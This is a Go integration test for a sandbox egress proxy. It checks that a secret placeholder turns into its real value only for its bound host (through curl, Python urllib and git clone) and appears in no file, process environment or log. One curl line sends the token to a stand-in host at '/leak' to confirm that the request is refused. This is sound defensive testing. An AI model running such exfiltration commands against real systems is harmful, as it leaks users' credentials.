package tests

import (
	"bytes"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// A secret bound to api.example.test, referenced in the sandbox's env as
// getSecret("..."), reaches that upstream with its real value from curl
// (header and query), Python's urllib and git clone over HTTPS (Basic
// credentials in the URL); sent to another host it is refused and never
// leaves. The sandbox itself only ever holds the placeholder: the value is
// in no file of the container, no process environment and no log.
func TestEgressSecretsReachOnlyTheirHost(t *testing.T) {
	t.Parallel()
	holdLab(t)
	ctx := testCtx(t, 6*time.Minute)
	in := newInternet(t)
	const value = "egress-secret-VALUE-5f2c81d0"
	repo := gitRepo(t)
	in.handle = func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.HasPrefix(r.URL.Path, "/repo.git/") {
			return false
		}
		if _, pass, ok := r.BasicAuth(); !ok || pass != value {
			w.Header().Set("WWW-Authenticate", `Basic realm="test"`)
			http.Error(w, "auth", http.StatusUnauthorized)
			return true
		}
		http.StripPrefix("/repo.git/", http.FileServer(http.Dir(repo))).ServeHTTP(w, r)
		return true
	}
	s := egressStack(t, ctx, in)
	// Through the API, as a user would: the gateway seals it into the
	// shared blob store the worker's proxy reads. It opts in to URLs (the
	// query and git's credentials in the URL).
	putSecret(t, s, "api-token", value, true)

	sb := egressSandbox(t, s, "eg-sec", map[string]string{"TOKEN": `getSecret("api-token")`})
	out := sandboxSh(t, ctx, sb,
		curlCode("curl-header", `-H "Authorization: Bearer $TOKEN" https://api.example.test/curl`)+
			curlCode("curl-query", `"https://api.example.test/query?key=$TOKEN"`)+
			curlCode("unbound", `-H "Authorization: Bearer $TOKEN" https://other.example.test/leak`)+
			`python3 -c 'import os, urllib.request as u; print("py", u.urlopen(u.Request("https://api.example.test/py", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})).status, 0)';`+
			`rm -rf /tmp/clone; git clone -q "https://x:$TOKEN@api.example.test/repo.git" /tmp/clone >/dev/null 2>&1; echo "git $(cat /tmp/clone/hello.txt 2>/dev/null || echo none) $?";`+
			`echo "env-token $TOKEN"`)
	r := results(t, out)
	require.Equal(t, "200 0", r["curl-header"])
	require.Equal(t, "200 0", r["curl-query"])
	require.Equal(t, "403 0", r["unbound"], "a placeholder to an unbound host is refused")
	require.Equal(t, "200 0", r["py"])
	require.Contains(t, out, "git hello-from-upstream 0", "git clone with the secret in the URL")
	require.Contains(t, out, `env-token getSecret("api-token")`, "the sandbox sees the placeholder")

	byPath := map[string]seenRequest{}
	for _, q := range in.requests() {
		byPath[q.Path] = q
		require.NotEqual(t, "/leak", q.Path, "the request to an unbound host was sent")
	}
	require.Equal(t, "Bearer "+value, byPath["/curl"].Auth)
	require.Equal(t, "key="+value, byPath["/query"].Query)
	require.Equal(t, "Bearer "+value, byPath["/py"].Auth)
	require.Contains(t, fullLog(t, s.Dir, "worker"), "api-token", "the refusal names the secret for the operator")

	// Nowhere in the sandbox: not its files, not /proc, not the logs.
	ps := sandboxSh(t, ctx, sb, `cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -c "`+value+`" || true`)
	require.Equal(t, "0", strings.TrimSpace(ps), "the value is in a process environment")
	c := sandboxContainersOf(t, s, sb.Name())
	require.Len(t, c, 1)
	exp := exec.CommandContext(ctx, "docker", "export", c[0])
	pipe, err := exp.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, exp.Start())
	found, err := streamContains(pipe, []byte(value))
	require.NoError(t, err)
	require.NoError(t, exp.Wait())
	require.False(t, found, "the value is in a file of the container")
	require.NotContains(t, fullLog(t, s.Dir, "worker"), value)
	require.NotContains(t, fullLog(t, s.Dir, "gateway"), value)
}

// fullLog is the whole log of a stack's process.
func fullLog(t *testing.T, dir, role string) string {
	b, err := os.ReadFile(filepath.Join(dir, role+".log"))
	require.NoError(t, err)
	return string(b)
}

// streamContains scans r for needle without holding all of it.
func streamContains(r io.Reader, needle []byte) (bool, error) {
	buf := make([]byte, 0, 1<<20+len(needle))
	chunk := make([]byte, 1<<20)
	for {
		n, err := r.Read(chunk)
		buf = append(buf, chunk[:n]...)
		if bytes.Contains(buf, needle) {
			io.Copy(io.Discard, r)
			return true, nil
		}
		if len(buf) > len(needle) {
			buf = append(buf[:0], buf[len(buf)-len(needle):]...)
		}
		if err == io.EOF {
			return false, nil
		}
		if err != nil {
			return false, err
		}
	}
}

// gitRepo makes a bare repository with one file, served over git's dumb
// HTTP protocol (plain files).
func gitRepo(t *testing.T) string {
	dir := t.TempDir()
	work, bare := filepath.Join(dir, "work"), filepath.Join(dir, "repo.git")
	for _, args := range [][]string{
		{"init", "-q", work},
		{"-C", work, "-c", "user.email=t@example.test", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "init"},
	} {
		out, err := exec.Command("git", args...).CombinedOutput()
		require.NoError(t, err, "%s", out)
	}
	require.NoError(t, os.WriteFile(filepath.Join(work, "hello.txt"), []byte("hello-from-upstream\n"), 0o644))
	for _, args := range [][]string{
		{"-C", work, "add", "hello.txt"},
		{"-C", work, "-c", "user.email=t@example.test", "-c", "user.name=t", "commit", "-q", "-m", "hello"},
		{"clone", "-q", "--bare", work, bare},
		{"-C", bare, "update-server-info"},
	} {
		out, err := exec.Command("git", args...).CombinedOutput()
		require.NoError(t, err, "%s", out)
	}
	return bare
}
